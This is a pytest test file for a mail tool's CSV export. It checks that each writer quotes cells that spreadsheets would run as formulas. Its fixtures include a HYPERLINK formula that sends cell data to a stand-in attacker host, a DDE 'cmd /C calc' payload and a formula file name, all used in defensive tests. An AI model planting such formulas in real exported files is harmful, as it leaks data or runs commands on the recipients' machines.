"""CSV injection: every CSV the project writes quotes a cell a spreadsheet would run.

One writer (maildoctor/spreadsheet.py, OWASP's rule: a leading ``'`` before ``=``,
``+``, ``-``, ``@``, tab or CR) behind ``check --format csv``, ``bounce --format
csv``, ``events show/suppressed --format csv`` and the desk's batch download
(``POST /api/csv``; its page test is in test_desk_browser.py). Each writer is run
here on input carrying a formula.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from maildoctor.cli import main
from maildoctor.harness.server import HarnessThread
from maildoctor.spreadsheet import FORMULA_LEADS, csv_line, csv_text, safe_cell, unique_names
from maildoctor.web.app import run_in_thread
from maildoctor.web.config import WebConfig

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def invoke(*args: str, stdin: bytes | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args), input=stdin)
    return result.exit_code, result.stdout


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_each_formula_lead_is_quoted(lead: str) -> None:
    assert safe_cell(lead + "1+1") == "'" + lead + "1+1"
    line = csv_line([lead + "x", "ok"])
    assert next(csv.reader(io.StringIO(line, newline="")))[0] == "'" + lead + "x"


def test_plain_cells_and_types_are_kept() -> None:
    assert [safe_cell(v) for v in ("taro@docomo.ne.jp", "a=b", 3, None, True, False)] == [
        "taro@docomo.ne.jp",
        "a=b",
        "3",
        "",
        "true",
        "false",
    ]
    assert csv_text(["a", "b"], [["1", "x,y"]], crlf=True) == 'a,b\r\n1,"x,y"\r\n'
    assert unique_names(["ticket", "address", "ticket", "ticket"]) == [
        "ticket",
        "address",
        "ticket (2)",
        "ticket (3)",
    ]


def test_check_csv(tmp_path: Path) -> None:
    members = tmp_path / "members.csv"
    members.write_text(
        f'email,note\n-taro@docomo.ne.jp,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "@hanako@au.com,+81 90\n",
        encoding="utf-8",
    )
    code, out = invoke("check", "--file", str(members), "--offline", "--format", "csv", "--no-bom")
    assert code in (0, 1), out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["address"] for r in rows] == ["'-taro@docomo.ne.jp", "'@hanako@au.com"]
    assert [r["note"] for r in rows] == ["'" + FORMULA, "'+81 90"]
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


def test_bounce_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    # A file name is a cell too (the error row of a file that is no bounce).
    Path("=1+1.eml").write_text("Subject: hello\n\nnot a bounce\n", encoding="utf-8")
    Path("dsn.eml").write_text(
        "From: MAILER-DAEMON@mx.example.jp\nTo: info@lentrance.com\n"
        "Subject: Undelivered Mail Returned to Sender\n\n"
        "This is the mail system at host mx.example.jp.\n\n"
        "<-taro@docomo.ne.jp>: host mfsmax.docomo.ne.jp[192.0.2.11] said: 550 5.1.1\n"
        "    =cmd|' /C calc'!A0 (in reply to RCPT TO command)\n",
        encoding="utf-8",
    )
    code, out = invoke("bounce", "=1+1.eml", "dsn.eml", "--format", "csv")
    assert code in (0, 1), out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["file"] == "'=1+1.eml"
    cells = [v for row in rows for v in row.values() if v]
    assert cells and not any(v.startswith(("=", "+", "-", "@")) for v in cells)
    assert any("-taro@docomo.ne.jp" in v for v in cells)  # the bounce was read


def test_events_csv(tmp_path: Path) -> None:
    db = str(tmp_path / "e.sqlite3")
    events = [
        {
            "email": "-gone@example.jp",
            "timestamp": 1796000700,
            "event": "bounce",
            "sg_event_id": "x1",
            "sg_message_id": "m1",
            "reason": FORMULA,
            "status": "5.1.1",
            "type": "bounce",
        }
    ]
    source = tmp_path / "sendgrid.json"
    source.write_text(json.dumps(events), encoding="utf-8")
    assert invoke("events", "ingest", "--events-db", db, str(source))[0] == 0
    code, out = invoke(
        "events",
        "show",
        "--events-db",
        db,
        "--days",
        "0",
        "--format",
        "csv",
        "--",
        "-gone@example.jp",
    )
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["address"] == "'-gone@example.jp"
    assert row["reply"] == "'" + FORMULA  # the ESP's words, as given
    code, out = invoke("events", "suppressed", "--events-db", db, "--days", "0")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["address"] == "'-gone@example.jp"


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[HarnessThread]:
    with run_in_thread(tmp_path / "h.sqlite3", web_config=WebConfig(nameservers=None)) as h:
        yield h


def post(h: HarnessThread, path: str, body: bytes, content_type: str) -> tuple[int, dict]:
    import urllib.error
    import urllib.request

    req = urllib.request.Request(
        f"{h.http_url}{path}", data=body, method="POST", headers={"Content-Type": content_type}
    )
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        with e:
            return e.code, json.loads(e.read())


def test_desk_batch_csv_keeps_the_inputs_columns(desk: HarnessThread) -> None:
    upload = "名前,メールアドレス,ticket\r\n山田,taro@docomo.ne.jp,T-1\r\n".encode("cp932")
    status, found = post(desk, "/api/addresses", upload, "text/csv")
    assert status == 200
    assert found["columns"] == ["名前", "メールアドレス", "ticket"]
    assert found["address_column"] == "メールアドレス"
    assert found["rows"] == [{"address": "taro@docomo.ne.jp", "名前": "山田", "ticket": "T-1"}]
    body = {
        "header": ["名前", "メールアドレス", "ticket", "ticket", "note"],
        "rows": [["山田", "-taro@docomo.ne.jp", "T-1", "not_arrived", FORMULA]],
    }
    status, made = post(desk, "/api/csv", json.dumps(body).encode(), "application/json")
    assert status == 200
    text = made["csv"]
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert records[0] == ["名前", "メールアドレス", "ticket", "ticket (2)", "note"]
    assert records[1] == ["山田", "'-taro@docomo.ne.jp", "T-1", "not_arrived", "'" + FORMULA]


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"{", 400),
        (b'{"header": "a", "rows": []}', 400),
        (b'{"header": ["a"], "rows": [[{"x": 1}]]}', 400),
        (json.dumps({"header": ["a"], "rows": [["x"]] * 5001}).encode(), 413),
    ],
    ids=["broken", "header-not-list", "cell-not-scalar", "too-many-rows"],
)
def test_desk_csv_bad_input_is_one_json_error(
    desk: HarnessThread, body: bytes, status: int
) -> None:
    got, data = post(desk, "/api/csv", body, "application/json")
    assert got == status
    assert data["error"]
